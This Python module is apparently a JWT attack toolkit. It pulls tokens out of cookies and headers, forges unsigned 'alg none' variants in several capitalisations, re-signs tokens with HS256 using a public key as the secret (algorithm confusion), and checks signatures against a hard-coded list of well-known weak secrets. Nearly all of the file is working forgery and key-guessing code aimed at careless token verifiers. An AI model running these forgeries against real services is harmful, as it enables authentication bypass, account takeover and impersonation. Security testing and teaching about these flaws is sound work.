"""JSON Web Tokens: read without a key, and written anew the ways that careless verifiers accept."""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from typing import Any

_TOKEN = re.compile(r"eyJ[\w-]+\.[\w-]+\.[\w-]*")
_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
# Keys of documentation, tutorials and templates; the first that attackers try.
WELL_KNOWN = (
    "",
    "secret",
    "Secret",
    "SECRET",
    "secret_key",
    "secret-key",
    "secretkey",
    "SECRET_KEY",
    "my_secret",
    "my-secret",
    "mysecret",
    "mysecretkey",
    "my-secret-key",
    "my_secret_key",
    "supersecret",
    "super-secret",
    "super_secret",
    "super-secret-key",
    "supersecretkey",
    "your-secret-key",
    "your_secret_key",
    "your-256-bit-secret",
    "a-string-secret-at-least-256-bits-long",
    "change-me",
    "changeme",
    "change_me",
    "CHANGEME",
    "changeit",
    "password",
    "jwt",
    "jwt_secret",
    "jwt-secret",
    "jwtsecret",
    "key",
    "token",
    "test",
    "dev",
    "development",
    "default",
    "admin",
    "123456",
    "12345678",
    "azerty",
    "qwerty",
    "motdepasse",
    "09d25e094faa6ca2556c818166b7a9563b93f7099f6f0f4caa6cf63b88e8d3e7",  # pragma: allowlist secret
)


@dataclass(frozen=True)
class Token:
    """A JSON Web Token as it stands in ``text``; times in seconds since 1970, None where it does not say."""

    text: str
    header: dict[str, Any]
    claims: dict[str, Any]

    @property
    def algorithm(self) -> str:
        """What the token says it is signed with."""
        return str(self.header.get("alg", ""))

    @property
    def expires(self) -> float | None:
        """When it says it ends."""
        exp = self.claims.get("exp")
        return float(exp) if isinstance(exp, int | float) and not isinstance(exp, bool) else None


def find(text: str) -> Iterator[Token]:
    """The tokens in a cookie or a header."""
    for match in _TOKEN.finditer(text):
        header, claims, _ = match[0].split(".")
        decoded = _decoded(header), _decoded(claims)
        if isinstance(decoded[0], dict) and isinstance(decoded[1], dict) and "alg" in decoded[0]:
            yield Token(match[0], decoded[0], decoded[1])


def unsigned(token: Token) -> list[str]:
    """``token`` with its claims and no signature: ``alg`` none in four spellings, and its own ``alg``."""
    payload = token.text.split(".")[1]
    made = [f"{_encoded({**token.header, 'alg': alg})}.{payload}." for alg in ("none", "None", "NONE", "nOnE")]
    return [*made, f"{token.text.split('.')[0]}.{payload}."]


def confused(token: Token, public_keys: Iterable[bytes]) -> list[str]:
    """``token`` signed with HS256, a public key taken for the shared secret (RFC 8725, 2.1)."""
    head = _encoded({**token.header, "alg": "HS256"})
    payload = token.text.split(".")[1]
    return [f"{head}.{payload}.{_mac(f'{head}.{payload}', key, 'HS256')}" for key in public_keys]


def well_known_key(token: Token) -> str | None:
    """The key of :data:`WELL_KNOWN` that the token is signed with, None when it is none of them."""
    if token.algorithm not in _HASHES:
        return None
    signed, _, signature = token.text.rpartition(".")
    for key in WELL_KNOWN:
        if hmac.compare_digest(_mac(signed, key.encode(), token.algorithm), signature):
            return key
    return None


def _mac(text: str, key: bytes, algorithm: str) -> str:
    return _base64(hmac.new(key, text.encode(), _HASHES[algorithm]).digest())


def _encoded(document: dict[str, Any]) -> str:
    return _base64(json.dumps(document, separators=(",", ":")).encode())


def _base64(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode()


def _decoded(part: str) -> Any:
    try:
        return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except (binascii.Error, ValueError, RecursionError):
        return None
